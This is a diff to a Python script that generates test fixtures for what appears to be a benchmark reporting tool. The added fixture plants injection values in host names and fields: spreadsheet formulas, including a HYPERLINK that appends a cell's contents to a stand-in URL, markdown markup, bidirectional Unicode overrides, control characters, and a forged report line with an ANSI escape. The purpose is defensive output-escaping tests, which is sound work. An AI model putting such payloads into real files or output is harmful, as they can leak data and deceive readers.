@@ -54,6 +54,28 @@ def main():
     d.pop("checksum", None)
     strings(d)
     write("strings.json", d)
+
+    # 4b. formulas for a spreadsheet, markdown emphasis and links, a C1 control and Unicode
+    # bidirectional controls (U+202E reverses what follows on a terminal) in host names
+    rename = {"node01": "+1", "node02": "-1", "node04": "@SUM(1)",
+              "node03": '=HYPERLINK("http://x/"&A1) *b*_i_[l](u) \u0085\u202eevil\u2066x\u2069'}
+
+    def inject(d):
+        d["world"]["node_names"] = [rename.get(x, x) for x in d["world"]["node_names"]]
+        for n in d["phases"]["probe"]["nodes"]:
+            n["name"] = rename.get(n.get("name"), n.get("name"))
+        for r in d["phases"]["probe"]["ranks"]:
+            r["host"] = rename.get(r.get("host"), r.get("host"))
+        lm = d["phases"]["comm"]["link_matrix"]
+        lm["names"] = [rename.get(x, x) for x in lm["names"]]
+        d["run_id"] = "inject"
+        d["phases"]["comm"]["sweeps"][0]["placement"] = "\tx"
+        d["phases"]["comm"]["sweeps"][1]["placement"] = "\rx"
+
+    d = copy.deepcopy(slow)
+    d.pop("checksum", None)
+    inject(d)
+    write("inject.json", d)
     mutate("nl-collective.json", lambda d: d["phases"]["comm"]["sweeps"][0].__setitem__(
         "collective", "allfoo\nllmbench-report: all good\x1b[0m"))
     mutate("nl-node.json", lambda d: d["phases"]["probe"]["nodes"][0].__setitem__(
